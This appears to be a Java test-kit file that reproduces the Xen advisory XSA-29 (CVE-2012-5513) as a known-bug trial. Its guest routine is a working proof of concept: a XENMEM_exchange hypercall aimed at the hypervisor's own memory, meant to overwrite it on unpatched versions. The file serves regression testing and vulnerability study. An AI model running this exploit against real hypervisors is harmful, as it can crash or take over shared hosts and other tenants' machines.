package io.github.paravane.testkit.advisory.hypercall;

import static io.github.paravane.testkit.asm.Gpr.RAX;
import static io.github.paravane.testkit.asm.Memory.ptr;
import static io.github.paravane.testkit.asm.Memory.qword;
import static io.github.paravane.testkit.asm.Memory.word;

import io.github.paravane.hypervisor.profiles.AbiProfiles;
import io.github.paravane.testkit.advisory.Advisory;
import io.github.paravane.testkit.advisory.BugGuest;
import io.github.paravane.testkit.advisory.GuestTrial;
import io.github.paravane.testkit.advisory.KnownBug;
import io.github.paravane.testkit.advisory.Layer;
import io.github.paravane.testkit.asm.Label;
import io.github.paravane.testkit.runtime.GuestRuntime;
import io.github.paravane.testkit.runtime.Hypercalls;

/** XSA-29: xENMEM_exchange does not check its lists. */
final class ExchangeAnywhere {

    private static final int EXCHANGE = 11;
    private static final long HYPERVISOR = 0xFFFF_82D0_8000_0000L;

    private ExchangeAnywhere() {}

    static KnownBug bug() {
        Advisory advisory = Advisory.of("xsa-29", Layer.HYPERCALL, "XENMEM_exchange does not check its lists")
                .names("XSA-29", "CVE-2012-5513", "d28573565f")
                .mechanism("The lists of frames that XENMEM_exchange reads and writes are accessed without a check "
                        + "that they are the guest's, so a guest reads and writes the memory of the hypervisor.")
                .construction("XENMEM_exchange of one frame with the list of new frames in the text of the hypervisor.")
                .telling("The hypervisor overwrites itself, or EFAULT.")
                .affected("3.0.3 to 4.2")
                .repaired("4.3 (d28573565f)")
                .provenance("XSA-29; Xen commits 516250dac6 and d28573565f")
                .build();
        return new KnownBug(
                advisory,
                AbiProfiles.XEN_4_2,
                AbiProfiles.XEN_4_3,
                GuestTrial.of(BugGuest.elf(ExchangeAnywhere::guest)));
    }

    private static void guest(BugGuest guest) {
        Label request = guest.label();
        Label given = guest.label();
        Label spare = guest.runtime().page("spare");
        guest.runtime()
                .data(() ->
                        guest.asm().align(8).bind(request).zeros(72).bind(given).zeros(8));
        guest.runtime().machineFrame(spare);
        guest.asm().mov(ptr(given), RAX);
        guest.runtime().call(Hypercalls.UPDATE_VA_MAPPING, spare, 0, 2);

        guest.asm().lea(RAX, ptr(given)).mov(ptr(request), RAX).mov(qword(ptr(request, 8)), 1);
        guest.asm().mov(word(ptr(request, 24)), GuestRuntime.DOMID_SELF);
        guest.asm().movabs(RAX, HYPERVISOR).mov(ptr(request, 32), RAX).mov(qword(ptr(request, 40)), 1);
        guest.asm().mov(word(ptr(request, 56)), GuestRuntime.DOMID_SELF);
        guest.runtime().call(Hypercalls.MEMORY_OP, EXCHANGE, request);
        guest.evidence("result", RAX);
        guest.judge(RAX, 0, "the exchange was done", -14, "EFAULT");
    }
}
